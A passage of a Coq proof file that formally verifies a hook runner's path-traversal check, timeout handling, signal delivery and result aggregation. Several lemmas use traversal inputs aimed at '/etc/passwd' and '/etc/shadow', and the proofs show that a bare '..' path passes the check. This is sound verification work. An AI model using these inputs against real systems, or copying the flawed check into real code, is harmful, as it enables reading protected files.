  induction 1 as [k | seg res Hseg Hres IH]; intros Hin.
  - rewrite rev_repeat_same. destruct k; [elim Hin|].
    simpl. eauto.
  - destruct Hin as [Hin|Hin]; [congruence|].
    destruct (IH Hin) as [tl Htl]. simpl. rewrite Htl. simpl. eauto.
Qed.

(** What [normalizeSegments] returns: names after a run of [..], no [..] at
    all under a root, and no segment with a slash in it. *)
Lemma normalizeSegments_kept (allowAboveRoot : bool) (segs res : list jsstring) :
  Kept res ->
  (allowAboveRoot = false -> ~ In Path.dotdot res) ->
  Forall no_slash res ->
  Forall no_slash segs ->
  exists res',
    Path.normalizeSegments allowAboveRoot res segs = rev res' /\
    Kept res' /\
    (allowAboveRoot = false -> ~ In Path.dotdot res') /\
    Forall no_slash res'.
Proof.
  revert res; induction segs as [|seg rest IH]; intros res HK Hroot Hres Hsegs.
  - exists res; auto.
  - inversion Hsegs as [|? ? Hseg Hrest]; subst. simpl.
    destruct (is_empty seg || JsString.eqb seg Path.dot); [apply IH; auto|].
    destruct (JsString.eqb seg Path.dotdot) eqn:Hdd.
    + destruct res as [|last res'].
      * apply IH; auto; destruct allowAboveRoot.
        -- apply (Kept_dots 1).
        -- apply (Kept_dots 0).
        -- discriminate.
        -- intros _ [].
        -- constructor; [|constructor]. vm_compute. intros [H|[H|[]]]; discriminate.
        -- constructor.
      * destruct (JsString.eqb last Path.dotdot) eqn:Hlast.
        -- apply eqb_eq in Hlast; subst last.
           apply IH; auto; destruct allowAboveRoot; auto.
           ++ apply Kept_more_dots; assumption.
           ++ discriminate.
           ++ constructor; [|assumption].
              vm_compute. intros [H|[H|[]]]; discriminate.
        -- apply eqb_neq in Hlast.
           inversion Hres; subst.
           apply IH; auto.
           ++ eapply Kept_pop; eauto.
           ++ intros Ha Hin. apply (Hroot Ha). right; assumption.
    + apply eqb_neq in Hdd. apply IH; auto.
      * apply Kept_name; assumption.
      * intros Ha [H|H]; [congruence|]. apply (Hroot Ha); assumption.
Qed.

Lemma join_nil_iff (sep : N) (segs : list jsstring) :
  join sep segs <> [] -> segs <> [].
Proof. destruct segs; [intros H; elim H; reflexivity | discriminate]. Qed.

Lemma join_dotdot_first (tl : list jsstring) :
  join Path.slash (Path.dotdot :: tl) = Path.dotdot \/
  startsWith (js "../") (join Path.slash (Path.dotdot :: tl)) = true.
Proof. destruct tl; [left|right]; reflexivity. Qed.

Lemma has_parent_segment_In (s : jsstring) :
  has_parent_segment s = true <-> In Path.dotdot (split Path.slash s).
Proof.
  unfold has_parent_segment. rewrite existsb_exists. split.
  - intros [seg [Hin Heq]]. apply eqb_eq in Heq; subst; assumption.
  - intros H. exists Path.dotdot; split; [assumption | apply eqb_refl].
Qed.

(** After [normalize] a [..] segment is the first one: the path is the bare
    [..] or begins with [../]. *)
Lemma normalize_parent_first (path : jsstring) :
  has_parent_segment (Path.normalize path) = true ->
  Path.normalize path = Path.dotdot \/
  startsWith (js "../") (Path.normalize path) = true.
Proof.
  unfold Path.normalize.
  destruct (is_empty path); [discriminate|].
  unfold Path.normalizeString.
  assert (Hkept : exists res',
             Path.normalizeSegments (negb (Path.isAbsolute path)) []
               (split Path.slash path) = rev res' /\
             Kept res' /\
             (negb (Path.isAbsolute path) = false -> ~ In Path.dotdot res') /\
             Forall no_slash res').
  { apply normalizeSegments_kept.
    - apply (Kept_dots 0).
    - intros _ [].
    - constructor.
    - apply split_no_sep. }
  destruct Hkept as [res' [Hnorm [HK [Hroot Hslash]]]].
  rewrite Hnorm. set (segs := rev res').
  assert (Hsegs_slash : Forall (fun seg => ~ In Path.slash seg) segs).
  { apply Forall_rev. exact Hslash. }
  assert (Hfirst : In Path.dotdot segs -> exists tl, segs = Path.dotdot :: tl).
  { intros Hin. apply Kept_first; [exact HK|]. apply in_rev. exact Hin. }
  assert (Hrooted : Path.isAbsolute path = true -> ~ In Path.dotdot segs).
  { intros Ha Hin. apply Hroot; [rewrite Ha; reflexivity|].
    apply in_rev. exact Hin. }
  destruct (is_empty (join Path.slash segs)) eqn:Hemp.
  { destruct (Path.isAbsolute path); [discriminate|].
    destruct (Path.endsWithSlash path); discriminate. }
  apply is_empty_false in Hemp.
  assert (Hne : segs <> [])
    by (apply (@join_nil_iff Path.slash); exact Hemp).
  assert (Hseg_in : forall trailing : bool,
             In Path.dotdot
               (split Path.slash
                  (if trailing then join Path.slash segs ++ [Path.slash]
                   else join Path.slash segs)) ->
             In Path.dotdot segs).
  { intros [|]; [rewrite split_trailing|]; rewrite split_join by assumption.
    - rewrite in_app_iff. intros [H|[H|[]]]; [exact H | discriminate].
    - auto. }
  rewrite has_parent_segment_In.
  destruct (Path.isAbsolute path) eqn:Habs.
  - intros Hin. exfalso. apply (Hrooted eq_refl).
    apply (Hseg_in (Path.endsWithSlash path)).
    rewrite split_leading in Hin.
    destruct Hin as [H|H]; [discriminate | exact H].
  - intros Hin. apply Hseg_in, Hfirst in Hin. destruct Hin as [tl Htl].
    rewrite Htl.
    destruct (join_dotdot_first tl) as [Hbare | Hstarts].
    + rewrite Hbare. destruct (Path.endsWithSlash path);
        [right; reflexivity | left; reflexivity].
    + destruct (Path.endsWithSlash path); [|right; exact Hstarts].
      right. apply startsWith_spec in Hstarts as [post Hpost].
      rewrite Hpost. apply startsWith_spec. exists (post ++ [Path.slash]).
      rewrite <- app_assoc. reflexivity.
Qed.

Lemma validatePath_cases (cwd path : jsstring) :
  validatePath cwd path =
  if includes (js "../") (Path.normalize path)
  then Throw path_traversal else Ok tt.
Proof. unfold validatePath. destruct (includes _ _); reflexivity. Qed.

(** C6 as stated fails.  The path [....//....//etc/passwd], which
    [hook-security.test.ts] expects to be refused,
    normalizes to [..../..../etc/passwd], which has no [..] segment, and
    [validatePath] throws: the test is on the text [../]. *)
Lemma dotted_names_rejected :
  Path.normalize (js "....//....//etc/passwd") = js "..../..../etc/passwd" /\
  has_parent_segment (Path.normalize (js "....//....//etc/passwd")) = false /\
  validatePath (js "/app") (js "....//....//etc/passwd") = Throw path_traversal.
Proof. repeat split; reflexivity. Qed.

(** The other direction fails by a slip: a path that normalizes to the bare
    [..] has a parent segment and passes. *)
Lemma bare_parent_passes :
  Path.normalize (js "config/../..") = Path.dotdot /\
  has_parent_segment (Path.normalize (js "config/../..")) = true /\
  validatePath (js "/app") (js "config/../..") = Ok tt /\
  validatePath (js "/app") (js "..") = Ok tt.
Proof. repeat split; reflexivity. Qed.

(** C6, as amended.  For a path whose normalized form is not the bare [..]:
    [validatePath] throws the path-traversal error exactly when the
    normalized path contains the text [../] and returns without error
    otherwise; it throws whenever the normalized path has a [..] segment;
    and the working directory, against which a relative path is resolved,
    has no influence on the outcome. *)
Theorem validatePath_substring (cwd path : jsstring) :
  Path.normalize path <> Path.dotdot ->
  (validatePath cwd path = Throw path_traversal <->
   exists pre post, Path.normalize path = pre ++ js "../" ++ post) /\
  (validatePath cwd path = Ok tt <->
   ~ exists pre post, Path.normalize path = pre ++ js "../" ++ post) /\
  (has_parent_segment (Path.normalize path) = true ->
   validatePath cwd path = Throw path_traversal) /\
  (forall cwd', validatePath cwd' path = validatePath cwd path).
Proof.
  intros Hbare.
  rewrite <- includes_spec.
  split; [|split; [|split]].
  - rewrite validatePath_cases.
    destruct (includes (js "../") (Path.normalize path));
      split; congruence.
  - rewrite validatePath_cases.
    destruct (includes (js "../") (Path.normalize path));
      split; congruence.
  - intros Hseg. rewrite validatePath_cases.
    destruct (normalize_parent_first path Hseg) as [H|H]; [congruence|].
    assert (Hinc : includes (js "../") (Path.normalize path) = true).
    { apply includes_spec. apply startsWith_spec in H as [post Hpost].
      exists [], post. exact Hpost. }
    rewrite Hinc. reflexivity.
  - intros cwd'. rewrite !validatePath_cases. reflexivity.
Qed.

Lemma validatePath_substring_witness :
  validatePath (js "/app") (js "./config/../../../etc/shadow")
  = Throw path_traversal /\
  validatePath (js "/app") (js "./config/settings.json") = Ok tt.
Proof.
  split.
  - destruct (validatePath_substring (js "/app")
                (js "./config/../../../etc/shadow")) as [_ [_ [H _]]].
    + vm_compute; discriminate.
    + apply H. reflexivity.
  - destruct (validatePath_substring (js "/app")
                (js "./config/settings.json")) as [_ [H _]].
    + vm_compute; discriminate.
    + apply H. rewrite <- includes_spec. vm_compute; discriminate.
Defined.


(* ------------------------------------------------------------------ *)
(** ** The scenarios of the specification, run *)

(** Scenario A: a matcher for [Bash], a hook that exits with 0. *)
Example scenario_A :
  executeHooks (engine := WordEngine.engine)
    PreToolUse bash_call
    (pre_tool [ {| matcher := Some (js "Bash");
                   hooks := [hook "exit 0" None] |} ])
    (Some (js "Bash")) (fun _ _ _ => quick [] [] 0)
  = Resolved
      {| results := [ {| success := true; exitCode := 0; stdout := [];
                         stderr := []; timedOut := false; error := None;
                         jsonOutput := None |} ];
         shouldBlock := false; blockReason := None;
         shouldContinue := true; stopReason := None;
         contextToAdd := [] |}.
Proof. reflexivity. Qed.

(** Scenario B: a hook that writes [blocked] to stderr and exits with 2. *)
Example scenario_B :
  executeHooks (engine := WordEngine.engine)
    PreToolUse bash_call
    (pre_tool [ {| matcher := None;
                   hooks := [hook "echo blocked 1>&2; exit 2" None] |} ])
    (Some (js "Bash")) (fun _ _ _ => quick [] (line (js "blocked")) 2)
  = Resolved
      {| results := [ {| success := false; exitCode := 2; stdout := [];
                         stderr := js "blocked"; timedOut := false;
                         error := None; jsonOutput := None |} ];
         shouldBlock := true; blockReason := Some (JString (js "blocked"));
         shouldContinue := true; stopReason := None;
         contextToAdd := [] |}.
Proof. reflexivity. Qed.

(** Scenario C: [sleep 10] with a timeout of one second, for a process that
    goes away on SIGTERM: the signal goes out at 1000 ms and the result is
    marked as timed out. *)
Example scenario_C :
  executeCommand (hook "sleep 10" (Some 1%Z)) bash_call obeys_sigterm
  = Resolved (close_result [] [] true None None) /\
  received (child (run (hook "sleep 10" (Some 1%Z)) obeys_sigterm))
  = [(1000%Z, SIGTERM)].
Proof. split; reflexivity. Qed.

(** The patterns of the specification: [Edit|Write] selects for [Edit] and
    for [Write] and not for [Bash]; without a pattern every tool name
    selects, and so does none. *)
Example scenario_patterns :
  map (fun tool =>
         matchesPattern (engine := WordEngine.engine)
           {| matcher := Some (js "Edit|Write"); hooks := [] |} tool)
      [Some (js "Edit"); Some (js "Write"); Some (js "Bash"); None]
  = [Ok true; Ok true; Ok false; Ok false] /\
  map (fun tool =>
         matchesPattern (engine := WordEngine.engine)
           {| matcher := None; hooks := [] |} tool)
      [Some (js "Edit"); None]
  = [Ok true; Ok true].
Proof. split; reflexivity. Qed.

(* ------------------------------------------------------------------ *)
(** ** One command, in closed form *)

(** After the timeout callback ran on a live process that is going to
    close: two more steps see it close, with [timedOut] set. *)
Lemma closes_after_timeout (p : Process) (signals : list (Z * Signal))
    (grace t : Z) (code : option Z) :
  let st :=
    {| var_timedOut := true;
       child := {| exited := false; killed := true; received := signals |};
       timeoutId := None;
       graceTimer := Some grace;
       closing := Some (t, code);
       settled := None |} in
  settled (step p (step p st))
  = Some (close_result (writes_stdout p) (writes_stderr p) true
            (emits_error p) code) /\
  received (child (step p (step p st))) = signals.
Proof.
  intros st. subst st.
  destruct (Z.leb t grace) eqn:Hfirst.
  - unfold step, next_event, sooner. simpl. rewrite Hfirst. simpl.
    split; reflexivity.
  - unfold step, next_event, sooner. simpl. rewrite Hfirst. simpl.
    split; reflexivity.
Qed.

(** The event loop of [executeCommand] computes [outcome_of] and delivers
    [signals_of]. *)
Lemma run_closed_form (command : HookCommand) (p : Process) :
  settled (run command p) = outcome_of command p /\
  received (child (run command p)) = signals_of command p.
Proof.
  unfold run, outcome_of, signals_of, in_time, close_code.
  set (d := effective_delay (timeoutMs command)).
  destruct (exits_at p) as [[t code]|] eqn:Hexit.
  - destruct (Z.leb t d) eqn:Hin.
    + assert (E1 : step p (spawned command p)
                   = on_close p code (spawned command p)).
      { unfold step, next_event, sooner, spawned. simpl. rewrite Hexit. simpl.
        fold d. rewrite Hin. reflexivity. }
      rewrite E1. unfold on_close, spawned. simpl.
      unfold step, next_event, sooner. simpl. split; reflexivity.
    + assert (E1 : step p (spawned command p)
                   = on_timeout p d (spawned command p)).
      { unfold step, next_event, sooner, spawned. simpl. rewrite Hexit. simpl.
        fold d. rewrite Hin. reflexivity. }
      rewrite E1. unfold on_timeout, spawned, react, kill. simpl.
      rewrite Hexit. simpl.
      destruct (sigterm_delay p) as [delay|]; simpl.
      * destruct (Z.leb t (d + delay)); apply closes_after_timeout.
      * apply closes_after_timeout.
  - assert (E1 : step p (spawned command p)
                 = on_timeout p d (spawned command p)).
    { unfold step, next_event, sooner, spawned. simpl. rewrite Hexit.
      reflexivity. }
    rewrite E1. unfold on_timeout, spawned, react, kill. simpl.
    rewrite Hexit. simpl.
    destruct (sigterm_delay p) as [delay|]; simpl.
    + apply closes_after_timeout.
    + unfold step, next_event, sooner, on_grace. simpl. split; reflexivity.
Qed.

Lemma executeCommand_closed_form (command : HookCommand)
    (eventData : HookEventData) (p : Process) :
  executeCommand command eventData p =
  match outcome_of command p with
  | Some r => Resolved r
  | None => Pending
  end.
Proof.
  unfold executeCommand. rewrite (proj1 (run_closed_form command p)).
  reflexivity.
Qed.

(* ------------------------------------------------------------------ *)
(** ** One command: what its result says *)

(** X1. When the promise of a hook command resolves, timedOut is false
    if the process closed before the timeout timer was due, and true if
    it closed after that or would never have closed by itself. The timer
    is due after timeoutMs, or after 1 ms where timeoutMs is outside the
    range 1..2147483647 that setTimeout accepts. *)
Theorem timedOut_exactly (command : HookCommand) (eventData : HookEventData)
    (p : Process) (r : HookResult) :
  executeCommand command eventData p = Resolved r ->
  (forall t code,
     exits_at p = Some (t, code) ->
     (t < effective_delay (timeoutMs command))%Z -> timedOut r = false) /\
  (forall t code,
     exits_at p = Some (t, code) ->
     (effective_delay (timeoutMs command) < t)%Z -> timedOut r = true) /\
  (exits_at p = None -> timedOut r = true).
Proof.
  rewrite executeCommand_closed_form. unfold outcome_of.
  destruct (close_code command p) as [code0|]; simpl; [|discriminate].
  intros H; injection H as <-. simpl. unfold in_time.
  split; [|split].
  - intros t code -> Hlt.
    destruct (Z.leb_spec t (effective_delay (timeoutMs command)));
      [reflexivity | lia].
  - intros t code -> Hlt.
    destruct (Z.leb_spec t (effective_delay (timeoutMs command)));
      [lia | reflexivity].
  - intros ->. reflexivity.
Qed.

Lemma timedOut_exactly_witness :
  executeCommand (hook "sleep 10" (Some 1%Z)) bash_call obeys_sigterm
  = Resolved (close_result [] [] true None None) /\
  timedOut (close_result [] [] true None None) = true.
Proof.
  assert (H : executeCommand (hook "sleep 10" (Some 1%Z)) bash_call
                obeys_sigterm
              = Resolved (close_result [] [] true None None))
    by reflexivity.
  split; [exact H|].
  exact (proj1 (proj2 (timedOut_exactly _ _ _ H)) 10000%Z (Some 0%Z) eq_refl
           eq_refl).
Defined.



(** X3. A process that is still running when the timeout fires and then
    exits by itself with code 0 (it ignores SIGTERM, or exits before the
    signal takes effect) is reported both as successful (success true,
    exitCode 0) and as timed out, and it has received the SIGTERM. *)
Theorem late_exit_succeeds_timed_out (command : HookCommand)
    (eventData : HookEventData) (p : Process) (t : Z) :
  exits_at p = Some (t, Some 0%Z) ->
  (effective_delay (timeoutMs command) < t)%Z ->
  (sigterm_delay p = None \/
   exists delay,
     sigterm_delay p = Some delay /\
     (t <= effective_delay (timeoutMs command) + delay)%Z) ->
  exists r,
    executeCommand command eventData p = Resolved r /\
    timedOut r = true /\ success r = true /\ exitCode r = 0%Z /\
    received (child (run command p))
    = [(effective_delay (timeoutMs command), SIGTERM)].
Proof.
  intros Hexit Hlate Hterm.
  rewrite executeCommand_closed_form.
  rewrite (proj2 (run_closed_form command p)).
  unfold outcome_of, close_code, signals_of, in_time. rewrite Hexit.
  destruct (Z.leb_spec t (effective_delay (timeoutMs command))); [lia|].
  destruct Hterm as [-> | [delay [-> Hd]]].
  - simpl. eexists; split; [reflexivity|]. repeat split.
  - destruct (Z.leb_spec t (effective_delay (timeoutMs command) + delay));
      [|lia].
    simpl. eexists; split; [reflexivity|]. repeat split.
Qed.

Lemma late_exit_succeeds_timed_out_witness :
  exists r,
    executeCommand (hook "finish-up" (Some 1%Z)) bash_call slow_to_finish
    = Resolved r /\
    timedOut r = true /\ success r = true /\ exitCode r = 0%Z /\
    received (child (run (hook "finish-up" (Some 1%Z)) slow_to_finish))
    = [(effective_delay (timeoutMs (hook "finish-up" (Some 1%Z))), SIGTERM)].
Proof.
  apply (@late_exit_succeeds_timed_out (hook "finish-up" (Some 1%Z)) bash_call
           slow_to_finish 1200%Z).
  - reflexivity.
  - vm_compute; reflexivity.
  - left; reflexivity.
Defined.

(** X4. A hook process that closes before its timeout timer is due is
    sent no signal; one that is still running when the timer is due is
    sent exactly one signal, the SIGTERM at that time. In no case is
    more than one signal delivered. *)
Theorem signals_delivered (command : HookCommand) (p : Process) :
  (forall t code,
     exits_at p = Some (t, code) ->
     (t < effective_delay (timeoutMs command))%Z ->
     received (child (run command p)) = []) /\
  (forall t code,
     exits_at p = Some (t, code) ->
     (effective_delay (timeoutMs command) < t)%Z ->
     received (child (run command p))
     = [(effective_delay (timeoutMs command), SIGTERM)]) /\
  (exits_at p = None ->
   received (child (run command p))
   = [(effective_delay (timeoutMs command), SIGTERM)]) /\
  List.length (received (child (run command p))) <= 1.
Proof.
  rewrite (proj2 (run_closed_form command p)).
  unfold signals_of, in_time.
  split; [|split; [|split]].
  - intros t code -> Hlt.
    destruct (Z.leb_spec t (effective_delay (timeoutMs command)));
      [reflexivity | lia].
  - intros t code -> Hlt.
    destruct (Z.leb_spec t (effective_delay (timeoutMs command)));
      [lia | reflexivity].
  - intros ->. reflexivity.
  - destruct (exits_at p) as [[t code]|]; [|simpl; lia].
    destruct (Z.leb t (effective_delay (timeoutMs command))); simpl; lia.
Qed.

(** X5. A timeout above 2147483 seconds on a command that is not empty
    passes validateHookSecurity, yet its product with 1000 is more than
    setTimeout accepts, so the timer fires after 1 ms: every process
    that runs longer than 1 ms is reported as timed out. *)
Theorem huge_timeout_fires_at_once (cmd : HookCommand)
    (eventData : HookEventData) (p : Process) (seconds : Z) :
  command cmd <> [] ->
  timeout cmd = Some seconds ->
  (2147483 < seconds)%Z ->
  validateHookSecurity (any_of cmd) = Ok tt /\
  timeoutId (spawned cmd p) = Some 1%Z /\
  (forall t code r,
     exits_at p = Some (t, code) -> (1 < t)%Z ->
     executeCommand cmd eventData p = Resolved r ->
     timedOut r = true).
Proof.
  intros Hcmd Hsec Hbig.
  assert (Heff : effective_delay (timeoutMs cmd) = 1%Z).
  { unfold effective_delay, timeoutMs, timeoutSeconds. rewrite Hsec.
    destruct (Z.eqb_spec seconds 0); [lia|].
    destruct (Z.ltb_spec (seconds * 1000) 1); [reflexivity|].
    destruct (Z.ltb_spec 2147483647 (seconds * 1000)); [reflexivity | lia]. }
  split; [|split].
  - apply validateHookSecurity_ok_iff. unfold any_of; simpl. split.
    + exists (command cmd). split; [reflexivity | exact Hcmd].
    + right. rewrite Hsec. simpl. eexists; split; [reflexivity|].
      rewrite num_negative_of_Z. destruct (Z.ltb_spec seconds 0); [lia|].
      reflexivity.
  - simpl. rewrite Heff. reflexivity.
  - intros t code r Hexit Ht.
    rewrite executeCommand_closed_form. unfold outcome_of.
    destruct (close_code cmd p) as [code0|]; simpl; [|discriminate].
    intros H; injection H as <-. simpl. unfold in_time.
    rewrite Hexit, Heff.
    destruct (Z.leb_spec t 1); [lia | reflexivity].
Qed.

Lemma huge_timeout_fires_at_once_witness :
  validateHookSecurity (any_of month_long) = Ok tt /\
  timeoutId (spawned month_long (quick [] [] 0)) = Some 1%Z /\
  executeCommand month_long bash_call (quick [] [] 0)
  = Resolved (close_result [] [] true None None) /\
  timedOut (close_result [] [] true None None) = true.
Proof.
  destruct (@huge_timeout_fires_at_once month_long bash_call (quick [] [] 0)
              2592000%Z) as [Hvalid [Htimer Hlate]].
  - discriminate.
  - reflexivity.
  - lia.
  - split; [exact Hvalid|]. split; [exact Htimer|].
    split; [reflexivity|].
    apply (Hlate 20%Z (Some 0%Z)); [reflexivity | lia | reflexivity].
Defined.

(* ------------------------------------------------------------------ *)
(** ** The texts of a result *)

Lemma trimStart_head (s : jsstring) (c : N) (rest : jsstring) :
  trimStart s = c :: rest -> is_white c = false.
Proof.
  induction s as [|a s IH]; simpl; [discriminate|].
  destruct (is_white a) eqn:E; [exact IH|].
  intros H; injection H as <- _. exact E.
Qed.

Lemma trimStart_suffix (s : jsstring) : exists w, s = w ++ trimStart s.
Proof.
  induction s as [|a s [w IH]]; simpl; [exists []; reflexivity|].
  destruct (is_white a).
  - exists (a :: w). simpl. f_equal. exact IH.
  - exists []. reflexivity.
Qed.

Lemma trim_trimmed (s : jsstring) : trimmed (trim s).
Proof.
  unfold trim, trimEnd. split.
  - intros c rest H.
    destruct (trimStart_suffix (rev (trimStart s))) as [w Hw].
    apply (f_equal (@rev N)) in Hw.
    rewrite rev_involutive, rev_app_distr, H in Hw.
    exact (trimStart_head s Hw).
  - intros c front H.
    apply (f_equal (@rev N)) in H.
    rewrite rev_involutive, rev_app_distr in H.
    exact (trimStart_head _ H).
Qed.

(** X6. The stdout and stderr of every result that executeCommand
    resolves with have no white space at either end. *)
Theorem output_is_trimmed (command : HookCommand) (eventData : HookEventData)
    (p : Process) (r : HookResult) :
  executeCommand command eventData p = Resolved r ->
  trimmed (stdout r) /\ trimmed (stderr r).
Proof.
  intros H. apply executeCommand_resolved in H.
  rewrite (closed_by_stdout H), (closed_by_stderr H).
  split; apply trim_trimmed.
Qed.

Lemma output_is_trimmed_witness :
  trimmed (stdout (close_result (js " ok ") (line (js "warn")) false None
                     (Some 0%Z))) /\
  trimmed (stderr (close_result (js " ok ") (line (js "warn")) false None
                     (Some 0%Z))).
Proof.
  apply (@output_is_trimmed (hook "policy-check" (Some 5%Z)) bash_call
           (quick (js " ok ") (line (js "warn")) 0)).
  reflexivity.
Defined.

(* ------------------------------------------------------------------ *)
(** ** The dispatch as a whole *)

Lemma all_resolved (A : Type) (promises : list (Async A)) (values : list A) :
  all promises = Resolved values -> promises = map (@Resolved A) values.
Proof.
  revert values; induction promises as [|p rest IH]; intros values; simpl.
  - intros H; injection H as <-. reflexivity.
  - destruct p as [a|e|]; destruct (all rest) as [l|e'|]; try discriminate.
    intros H; injection H as <-. simpl. rewrite (IH l eq_refl). reflexivity.
Qed.

Lemma all_pending (promises : list (Async HookResult)) :
  (forall p e, In p promises -> p <> Rejected e) ->
  (all promises = Pending <-> In Pending promises).
Proof.
  induction promises as [|p rest IH]; intros Hrej; simpl.
  - split; [discriminate | intros []].
  - assert (Hrest : forall q e, In q rest -> q <> Rejected e).
    { intros q e Hq. apply Hrej. right; exact Hq. }
    specialize (IH Hrest).
    assert (Hno : forall e, all rest <> Rejected e).
    { intros e. apply all_not_rejected. exact Hrest. }
    destruct p as [a|e|].
    + destruct (all rest) as [l|e'|] eqn:E.
      * split; [discriminate|]. intros [H|H]; [discriminate|].
        apply IH in H. discriminate.
      * elim (Hno e'); reflexivity.
      * split; [intros _; right; apply IH; reflexivity | reflexivity].
    + elim (Hrej (Rejected e) e); [left|]; reflexivity.
    + destruct (all rest) as [l|e'|] eqn:E.
      * split; [intros _; left|]; reflexivity.
      * elim (Hno e'); reflexivity.
      * split; [intros _; left|]; reflexivity.
Qed.

Lemma nth_error_mapi (A B : Type) (f : nat -> A -> B) (l : list A)
    (k i : nat) :
  nth_error (mapi f k l) i = option_map (f (k + i)) (nth_error l i).
Proof.
  revert k i; induction l as [|x l IH]; intros k [|i]; simpl; try reflexivity.
  - rewrite Nat.add_0_r; reflexivity.
  - rewrite IH. replace (S k + i) with (k + S i) by lia. reflexivity.
Qed.

Lemma length_mapi (A B : Type) (f : nat -> A -> B) (l : list A) (k : nat) :
  List.length (mapi f k l) = List.length l.
Proof. revert k; induction l; intros k; simpl; auto. Qed.

Lemma all_rejected (A : Type) (promises : list (Async A)) :
  (exists e, all promises = Rejected e) <->
  (exists e, In (Rejected e) promises).
Proof.
  induction promises as [|p rest IH]; simpl.
  - split; [intros [e H]; discriminate | intros [e []]].
  - destruct p as [a|e0|].
    + destruct (all rest) as [l|e'|] eqn:E.
      * split; [intros [e H]; discriminate|].
        intros [e [H|H]]; [discriminate|].
        destruct (proj2 IH (ex_intro _ e H)) as [e1 H1]. discriminate.
      * split; [|intros _; exists e'; reflexivity].
        intros _. destruct (proj1 IH (ex_intro _ e' eq_refl)) as [e1 H1].
        exists e1. right; exact H1.
      * split; [intros [e H]; discriminate|].
        intros [e [H|H]]; [discriminate|].
        destruct (proj2 IH (ex_intro _ e H)) as [e1 H1]. discriminate.
    + split; intros _; exists e0; [left|]; reflexivity.
    + destruct (all rest) as [l|e'|] eqn:E.
      * split; [intros [e H]; discriminate|].
        intros [e [H|H]]; [discriminate|].
        destruct (proj2 IH (ex_intro _ e H)) as [e1 H1]. discriminate.
      * split; [|intros _; exists e'; reflexivity].
        intros _. destruct (proj1 IH (ex_intro _ e' eq_refl)) as [e1 H1].
        exists e1. right; exact H1.
      * split; [intros [e H]; discriminate|].
        intros [e [H|H]]; [discriminate|].
        destruct (proj2 IH (ex_intro _ e H)) as [e1 H1]. discriminate.
Qed.

(** The promise of a command is pending for ever when the command was
    started and neither ends by itself nor reacts to SIGTERM, and in no other
    case. *)
Lemma executeCommand_pending (command : HookCommand)
    (eventData : HookEventData) (child : Spawn) :
  executeCommand command eventData child = Pending <->
  exists p,
    child = Started p /\ exits_at p = None /\ sigterm_delay p = None.
Proof.
  destruct child as [p|e].
  - rewrite executeCommand_closed_form. unfold outcome_of, close_code.
    split.
    + intros H. exists p. split; [reflexivity|]. revert H.
      destruct (exits_at p) as [[t code]|]; destruct (sigterm_delay p);
        simpl; repeat destruct (Z.leb _ _); simpl;
        try discriminate; auto.
    + intros [p' [Hp [He Hs]]]. injection Hp as <-. rewrite He, Hs.
      reflexivity.
  - simpl. split; [discriminate | intros [p [H _]]; discriminate].
Qed.

(** It is rejected when the executor met an exception, and in no other
    case. *)
Lemma executeCommand_rejected (command : HookCommand)
    (eventData : HookEventData) (child : Spawn) (e : JsError) :
  executeCommand command eventData child = Rejected e <-> child = Refused e.
Proof.
  destruct child as [p|e'].
  - split; [|discriminate]. intros H.
    elim (executeCommand_not_rejected command eventData p H).
  - simpl. split; congruence.
Qed.

Section DispatchMore.
Context {engine : RegExpEngine}.
Variables (eventName : HookEventName) (eventData : HookEventData)
  (hookConfig : HookConfig) (matcher : option jsstring) (world : World).

Lemma executeHooks_promises (commands : list HookCommand) :
  selected (matchers_for hookConfig eventName) matcher = Ok commands ->
  executeHooks eventName eventData hookConfig matcher world =
  await
    (all (mapi (fun i command =>
                  executeCommand command eventData
                    (world i command eventData)) 0 commands))
    (fun hookResults => Resolved (aggregate hookResults)).
Proof. unfold executeHooks. intros ->. reflexivity. Qed.

(** X7. When executeHooks resolves, results holds exactly one result per
    selected command, in the order of the configuration: the i-th result
    is the value that the promise of the i-th selected command resolved
    with. *)
Theorem results_in_order (commands : list HookCommand)
    (r : HookExecutionResult) :
  selected (matchers_for hookConfig eventName) matcher = Ok commands ->
  executeHooks eventName eventData hookConfig matcher world = Resolved r ->
  List.length (results r) = List.length commands /\
  forall i command,
    nth_error commands i = Some command ->
    exists hr,
      nth_error (results r) i = Some hr /\
      executeCommand command eventData (world i command eventData)
      = Resolved hr.
Proof.
  intros Hsel. rewrite (executeHooks_promises Hsel).
  destruct (all _) as [hookResults|e|] eqn:Hall; simpl; try discriminate.
  intros H; injection H as <-. rewrite aggregate_results.
  apply all_resolved in Hall.
  split.
  - rewrite <- (length_map (@Resolved HookResult) hookResults), <- Hall.
    apply length_mapi.
  - intros i command Hi.
    assert (Hnth : nth_error (map (@Resolved HookResult) hookResults) i
                   = Some (executeCommand command eventData
                             (world i command eventData))).
    { rewrite <- Hall, nth_error_mapi, Hi. reflexivity. }
    rewrite nth_error_map in Hnth.
    destruct (nth_error hookResults i) as [hr|]; [|discriminate].
    exists hr. split; [reflexivity|]. simpl in Hnth. congruence.
Qed.

Lemma executeHooks_rejected (commands : list HookCommand) :
  selected (matchers_for hookConfig eventName) matcher = Ok commands ->
  ((exists e,
      executeHooks eventName eventData hookConfig matcher world = Rejected e)
   <->
   exists i command e,
     nth_error commands i = Some command /\
     world i command eventData = Refused e).
Proof.
  intros Hsel.
  rewrite (executeHooks_promises Hsel).
  set (promises := mapi _ 0 commands).
  assert (Hawait : (exists e,
                      await (all promises)
                        (fun hookResults => Resolved (aggregate hookResults))
                      = Rejected e)
                   <-> exists e, all promises = Rejected e).
  { destruct (all promises); simpl; split; intros [e0 H];
      try discriminate; exists e0; congruence. }
  rewrite Hawait, all_rejected. split.
  - intros [e Hin]. apply In_nth_error in Hin as [i Hi].
    unfold promises in Hi. rewrite nth_error_mapi in Hi. simpl in Hi.
    destruct (nth_error commands i) as [command|] eqn:Hc; [|discriminate].
    simpl in Hi. injection Hi as Hi. apply executeCommand_rejected in Hi.
    exists i, command, e. split; [exact Hc | exact Hi].
  - intros [i [command [e [Hc Hr]]]]. exists e.
    apply nth_error_In with (n := i). unfold promises.
    rewrite nth_error_mapi, Hc. simpl. rewrite Hr. reflexivity.
Qed.

Lemma executeHooks_pending (commands : list HookCommand) :
  selected (matchers_for hookConfig eventName) matcher = Ok commands ->
  (executeHooks eventName eventData hookConfig matcher world = Pending <->
   (forall i command e,
      nth_error commands i = Some command ->
      world i command eventData <> Refused e) /\
   exists i command p,
     nth_error commands i = Some command /\
     world i command eventData = Started p /\
     exits_at p = None /\ sigterm_delay p = None).
Proof.
  intros Hsel.
  pose proof (executeHooks_rejected Hsel) as Hrejected.
  rewrite (executeHooks_promises Hsel) in *.
  set (promises := mapi _ 0 commands) in *.
